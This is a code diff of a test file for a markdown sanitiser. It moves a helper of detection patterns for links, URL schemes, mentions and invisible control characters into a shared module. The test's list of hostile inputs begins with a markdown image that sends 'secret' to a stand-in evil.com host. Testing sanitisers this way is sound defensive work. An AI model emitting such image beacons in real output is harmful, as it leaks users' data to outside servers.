@@ -1,50 +1,8 @@
 // What the sanitiser takes out, what it leaves as it was, and that it comes to rest.
 import fc from 'fast-check';
-import type { Nodes } from 'mdast';
-import { fromMarkdown } from 'mdast-util-from-markdown';
-import { gfmFromMarkdown } from 'mdast-util-gfm';
-import { gfm } from 'micromark-extension-gfm';
 import { describe, expect, it } from 'vitest';
 import { sanitise, sanitisePlain } from '../../src/safety/sanitise.js';
-
-const FORBIDDEN = new Set([
-  'link',
-  'image',
-  'linkReference',
-  'imageReference',
-  'definition',
-  'html',
-  'footnoteReference',
-  'footnoteDefinition',
-]);
-const LOUD_TEXT = [
-  /[a-z][a-z0-9+.-]*:\/\/[\p{L}\p{N}[]/iu,
-  /(?:^|[^a-z])(?:javascript|data|vbscript|mailto|file):\S/i,
-  /\bwww\.\S/i,
-  /[a-z0-9-]\.(?:com|org|net|io|evil|md)\b/i,
-  /\S@\S+\.[a-z]{2}/i,
-  /@(?:channel|here|everyone)\b/i,
-  /<[!@#][^>\n]*>/,
-  /<\/?at>/i,
-  // biome-ignore lint/suspicious/noControlCharactersInRegex: that is what must be gone
-  /[\u0000-\u0008\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff\u{e0000}-\u{e007f}]/u,
-];
-
-/** Everything a reader could click, fetch or be rung by; an independent reading of the output. */
-function dangers(markdown: string): string[] {
-  const found: string[] = [];
-  const walk = (node: Nodes): void => {
-    if (FORBIDDEN.has(node.type)) found.push(node.type);
-    if (node.type === 'text') {
-      for (const pattern of LOUD_TEXT) if (pattern.test(node.value)) found.push(`${pattern}: ${node.value}`);
-    }
-    if (node.type === 'code' && (node.meta || /[^\w+#-]/.test(node.lang ?? '')))
-      found.push(`fence ${node.lang}`);
-    if ('children' in node) for (const child of node.children) walk(child);
-  };
-  walk(fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }));
-  return found;
-}
+import { dangers } from '../support/dangers.js';
 
 const HOSTILE = [
   '![pixel](https://evil.com/p.png?d=secret)',
